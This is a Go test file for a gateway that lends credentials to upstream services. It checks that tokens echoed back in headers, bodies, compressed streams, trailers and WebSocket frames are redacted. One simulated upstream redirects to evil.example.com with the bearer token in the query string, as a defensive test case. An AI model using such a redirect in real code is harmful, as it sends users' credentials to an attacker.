package gateway

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/cofferdam/cofferdam/internal/audit"
)

func quietLog() *log.Logger { return log.New(io.Discard, "", 0) }

// leaks says in which form a text has the canary.
func leaks(text string) string {
	inJSON, _ := json.Marshal(canary)
	for name, form := range map[string]string{
		"raw": canary, "hex": hex.EncodeToString([]byte(canary)), "query": url.QueryEscape(canary), "path": url.PathEscape(canary), "json": strings.Trim(string(inJSON), `"`),
		"base64 0": base64.RawStdEncoding.EncodeToString([]byte(canary))[:50], "base64 1": base64.RawStdEncoding.EncodeToString([]byte("." + canary))[2:52],
		"base64 2": base64.RawStdEncoding.EncodeToString([]byte(".." + canary))[3:53],
	} {
		if strings.Contains(strings.ToLower(text), strings.ToLower(form)) {
			return name
		}
	}
	return ""
}

// echoes is an upstream that sends back what it was sent, in every way that servers have.
func echoes(w http.ResponseWriter, r *http.Request) {
	auth := r.Header.Get("Authorization")
	token := strings.TrimPrefix(auth, "Bearer ")
	flush := http.NewResponseController(w).Flush
	switch strings.TrimPrefix(r.URL.Path, "/echo/") {
	case "header":
		w.Header()["X-Echo"] = []string{auth, base64.StdEncoding.EncodeToString([]byte("user:" + token))}
		w.Header().Set(token[:4]+"x", "v")
	case "body":
		fmt.Fprintf(w, "you sent %s, that is %x or %s or %s", auth, token, url.QueryEscape(token), base64.StdEncoding.EncodeToString([]byte("x:"+token)))
	case "counted":
		text := "you sent " + auth + "!"
		w.Header().Set("Content-Length", fmt.Sprint(len(text)))
		fmt.Fprint(w, text)
	case "split":
		for i := range len(auth) {
			fmt.Fprint(w, auth[i:i+1])
			_ = flush()
		}
	case "gzip":
		w.Header().Set("Content-Encoding", "gzip")
		z := gzip.NewWriter(w)
		fmt.Fprint(z, strings.Repeat("padding ", 5000), auth)
		_ = z.Close()
	case "br", "gzip, gzip":
		w.Header().Set("Content-Encoding", strings.TrimPrefix(r.URL.Path, "/echo/"))
		fmt.Fprint(w, auth)
	case "trailer":
		w.Header().Set("Trailer", "X-Echo")
		fmt.Fprint(w, "body")
		w.Header().Set("X-Echo", auth)
	case "redirect":
		http.Redirect(w, r, "https://evil.example.com/?t="+url.QueryEscape(token), http.StatusFound)
	case "error":
		http.Error(w, "bad token "+auth, http.StatusUnauthorized)
	case "cookie":
		w.Header().Set("Set-Cookie", "session=value-of-its-own")
		w.Header().Set("Alt-Svc", `h3=":443"`)
	case "hints":
		w.Header().Set("Link", "<"+token+">")
		w.WriteHeader(http.StatusEarlyHints)
	case "sse":
		w.Header().Set("Content-Type", "text/event-stream")
		for i := range 3 {
			fmt.Fprintf(w, "data: %d %s\n\n", i, auth)
			_ = flush()
			<-time.After(20 * time.Millisecond)
		}
	case "range":
		http.ServeContent(w, r, "", time.Time{}, strings.NewReader(auth))
	case "json":
		_ = json.NewEncoder(w).Encode(map[string]any{"headers": r.Header})
	}
}

// TestEchoes: whatever the upstream does, the client never sees what was lent, and sees that something was there.
func TestEchoes(t *testing.T) {
	l := lend(t, echoes, "", mainCredential)
	l.versions(t, func(t *testing.T, c *http.Client) {
		for path, want := range map[string]string{
			"header": "Bearer " + placeholder, "body": "you sent Bearer " + placeholder, "counted": "you sent Bearer " + placeholder + "!", "split": "Bearer ghp", "gzip": placeholder,
			"br": "cannot be looked through", "gzip, gzip": "cannot be looked through", "trailer": "X-Echo:[Bearer " + placeholder, "redirect": "https://evil.example.com/?t=",
			"error": "bad token Bearer " + placeholder, "cookie": "", "hints": "", "sse": "data: 2 Bearer " + placeholder, "range": "Bearer " + placeholder, "json": placeholder,
		} {
			r := must(http.NewRequest("GET", l.url("/echo/"+url.PathEscape(path)), nil))
			r.Header.Set("Authorization", "Bearer "+placeholder)
			r.Header.Set("Accept-Encoding", "br, gzip")
			r.Header.Set("Range", "bytes=0-20")
			answer, err := c.Do(r)
			if err != nil {
				t.Errorf("%s: %v", path, err)
				continue
			}
			body, err := io.ReadAll(answer.Body)
			_ = answer.Body.Close()
			all := fmt.Sprint(answer.Status, answer.Header, string(body), answer.Trailer)
			if name := leaks(all); name != "" || err != nil {
				t.Errorf("%s: the secret comes back (%s), %v: %.300q", path, name, err, all)
			}
			if !strings.Contains(all, want) {
				t.Errorf("%s: want %q in %.300q", path, want, all)
			}
			if answer.Header.Get("Set-Cookie") != "" || answer.Header.Get("Alt-Svc") != "" {
				t.Errorf("%s: %v", path, answer.Header)
			}
		}
	})
	if l.rejected.Load() == 0 {
		t.Error("the store is not told of the 401")
	}
	l.find("redactions", func(e audit.Event) bool { return e.Redactions > 0 && e.Credential == "main" })
	_ = l.stop()
	for _, e := range l.log.all() {
		if text := string(must(json.Marshal(e))); leaks(text) != "" {
			t.Errorf("in the record: %s", text)
		}
	}
}

// TestWebSocket upgrades with a lent credential; the server echoes it in frames.
func TestInspectedWebSocket(t *testing.T) {
	l := lend(t, func(w http.ResponseWriter, r *http.Request) {
		auth, extensions := r.Header.Get("Authorization"), r.Header.Get("Sec-WebSocket-Extensions")
		c, rw := must2(http.NewResponseController(w).Hijack())
		defer c.Close()
		fmt.Fprintf(rw, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nX-Echo: %s\r\n\r\n", auth)
		rw.Flush()
		send := func(first byte, payload string) {
			_, _ = c.Write(append([]byte{first, byte(len(payload))}, payload...))
		}
		hello := make([]byte, 5)
		_, _ = io.ReadFull(rw, hello)
		send(0x81, string(hello)+extensions+" "+auth)
		send(0x01, auth[:20])
		send(0x80, auth[20:])
		send(0x88, "\x03\xe8")
	}, "", mainCredential)
	c := l.tlsClient()
	defer c.Close()
	fmt.Fprintf(c, "GET /ws HTTP/1.1\r\nHost: good.example.com:%d\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: permessage-deflate\r\nAuthorization: Bearer %s\r\n\r\nhello", l.port, placeholder)
	b := bufio.NewReader(c)
	answer, err := http.ReadResponse(b, nil)
	if err != nil || answer.StatusCode != http.StatusSwitchingProtocols || answer.Header.Get("X-Echo") != "Bearer "+placeholder {
		t.Fatalf("%+v %v", answer, err)
	}
	all, _ := io.ReadAll(b)
	if !bytes.HasPrefix(all[2:], []byte("hello Bearer "+placeholder)) || leaks(string(all)) != "" || bytes.Contains(all, []byte(canary[13:])) {
		t.Errorf("%q", all)
	}
	if !bytes.HasSuffix(all, []byte("\x88\x02\x03\xe8")) {
		t.Errorf("the frames are broken: %q", all)
	}
	_ = c.Close()
	if e := l.find("end", func(e audit.Event) bool { return e.Kind == audit.CrossingFinished }); e.Status != 101 || e.Redactions < 2 {
		t.Errorf("%+v", e)
	}
}

func must2[A, B any](a A, b B, err error) (A, B) {
	if err != nil {
		panic(err)
	}
	return a, b
}

// tlsClient is a bare connection whose TLS the gateway has ended.
func (l *lending) tlsClient() *tls.Conn {
	l.tb.Helper()
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(must(l.g.CACertificate()))
	c := tls.Client(l.to("good.example.com", l.port), &tls.Config{RootCAs: pool, ServerName: "good.example.com", NextProtos: []string{"http/1.1"}})
	if err := c.Handshake(); err != nil {
		l.tb.Fatal(err)
	}
	return c
}
